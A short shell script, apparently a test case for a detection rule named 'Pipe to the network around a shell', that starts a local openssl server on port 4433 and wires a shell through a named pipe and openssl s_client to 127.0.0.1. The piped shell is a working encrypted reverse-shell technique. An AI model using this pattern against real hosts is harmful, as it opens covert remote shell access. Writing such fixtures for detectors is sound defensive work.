# what: a shell between two named pipes and a tool for the network
# rules: Pipe to the network around a shell
# needs: openssl
mkfifo /tmp/back
openssl req -x509 -newkey rsa:2048 -nodes -keyout /srv/key.pem -out /srv/cert.pem -days 1 -subj /CN=x 2>/dev/null
(sleep 1; echo exit; sleep 1) | openssl s_server -quiet -key /srv/key.pem -cert /srv/cert.pem -port 4433 >/dev/null 2>&1 &
server=$!
sleep 0.5
timeout 5 sh </tmp/back 2>&1 | timeout 5 openssl s_client -quiet -connect 127.0.0.1:4433 >/tmp/back 2>/dev/null || true
kill $server || true
